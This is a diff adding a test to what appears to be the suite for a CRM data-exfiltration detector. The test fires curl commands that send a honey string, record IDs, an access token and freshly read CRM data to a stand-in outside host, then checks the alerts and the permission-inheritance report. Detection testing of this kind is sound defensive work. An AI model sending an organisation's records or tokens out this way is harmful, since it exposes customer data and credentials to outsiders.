@@ -627,4 +627,53 @@ https.get('%s%s/query?q=SELECT+Name+FROM+Opportunity', { headers: { 'accept-enco
     return bad
 
 
-ALONE = [sight_programs, sight_websocket, sight_actions, sight_jsforce, sight_witness, sight_values, sight_extensions, browser_policy, sight_off]
+def sight_evidence(w):
+    """Honey and credentials in a body, a flow of who read the org's records, the user by sign-on or by the policy, and tokens that are
+    no person's: each is told, by its place, its id, its name."""
+    honey, other, bad = "Project Nightingale 2027", "0055j000000utlQAAQ", []
+    t = tools(w, taint="alert")
+    t["org"].update(honey=["00Q5j00000AbCdEEAV", honey], users={"root": other, "nobody-here": "0055j000000utlPAAQ"})
+    w.start(**t)
+
+    def alerts(*cmd):
+        done = max([r["id"] for r in w.rows()] or [0])
+        rc, text = w.run("curl", "-sS", "-o", "/dev/null", *cmd)
+        rows = [r for r in w.rows() if r["id"] > done]
+        users = {(r.get("user"), r.get("user_by"), r.get("grant")) for r in rows if r["kind"] == "action"}
+        bad.extend([] if rc == 0 else ["exit %d %s" % (rc, text)])
+        return sorted((r["rule"], r["name"], tuple(r.get("fields", [])) or r.get("org") or r.get("user") or r.get("grant")) for r in rows if r["kind"] == "alert"), users
+    out = "https://models.acme.example/in"
+    for what, cmd, want in (
+            ("honey", ("--data", "they call it %s now" % honey, out), [("E011", "honey", ("$.org.honey[1]",))]),
+            ("honey, URL", ("%s?q=%s" % (out, urllib.parse.quote(honey)),), [("E011", "honey", ("$.org.honey[1]",))]),
+            ("honey, id", ("--data", '{"lead":"00Q5j00000AbCdEEAV"}', out), [("E011", "honey", ("$.org.honey[0]",))]),
+            ("honey to the org", ("--data", honey, OWN + DATA + "/sobjects/Task"), []),
+            ("a token in a body", ("--data", '{"t":"%s"}' % TOKEN, out), [("E014", "token-exposure", "00D5f000000J2PK")]),
+            ("no token", ("--data", '{"t":"00D5f000000J2PK!short"}', out), []),
+            ("read, then elsewhere", (OWN + ROW, "--next", "-sS", "-o", "/dev/null", out), [("E011", "tainted-flow", None)]),
+            ("elsewhere, then read", (out, "--next", "-sS", "-o", "/dev/null", OWN + ROW), [])):
+        got, users = alerts(*cmd)
+        bad += [] if got == want else ["%s: %s" % (what, got)]
+        bad += [] if all(u[:2] == (other, "policy") for u in users) else ["%s: users %s" % (what, users)]
+    got, users = alerts("--data", "grant_type=client_credentials&client_secret=secret", OWN + "/services/oauth2/token", OWN + ROW)
+    bad += [] if got == [("E020", "user-differs", "0055j000000utlPAAQ"), ("E021", "integration-user", "client_credentials")] else ["sign-on: %s" % got]
+    bad += [] if ("0055j000000utlPAAQ", "sign-on", None) in users else ["users: %s" % users]
+    t["org"].update(users={"0": "0055j000000utlPAAQ"})
+    w.stop()
+    said = W.sh(W.BUILD + "/crmfence", "report", "--db", w.db, "--json", check=False)
+    verdicts = sorted((r["inheritance"], r["why"][:40]) for r in map(json.loads, said.stdout.split("\n")[:-1]) if r["verbs"])
+    bad += [] if said.returncode == 1 and ("broken", "its token is an integration user's, not ") in verdicts and \
+        ("holds", "as far as the policy's map of users goes") in verdicts else ["report: %d %s" % (said.returncode, verdicts)]
+    w.start(**t)
+    got, users = alerts("--data", "grant_type=authorization_code&code=secret", OWN + "/services/oauth2/token", OWN + ROW)
+    bad += [] if got == [] and users == {("0055j000000utlPAAQ", "policy", "authorization_code"), ("0055j000000utlPAAQ", "sign-on", None)} or \
+        users == {("0055j000000utlPAAQ", "sign-on", "authorization_code"), ("0055j000000utlPAAQ", "sign-on", None)} else ["the person: %s %s" % (got, users)]
+    w.stop()
+    said = W.sh(W.BUILD + "/crmfence", "report", "--db", w.db, check=False)
+    bad += [] if said.returncode == 0 and "permission inheritance: holds: one person's sign-on" in said.stdout and "authorization_code 1" in said.stdout else [
+        "report: %d %s" % (said.returncode, said.stdout)]
+    left = [n for n in os.listdir(w.dir) if n.startswith(os.path.basename(w.db)) or n == "agent.log"]
+    return bad + ["%s has a value" % n for n in left for x in (b"Nightingale", b"secret", b"AQ4AQI") if x in open(w.dir + "/" + n, "rb").read()]
+
+
+ALONE = [sight_programs, sight_evidence, sight_websocket, sight_actions, sight_jsforce, sight_witness, sight_values, sight_extensions, browser_policy, sight_off]
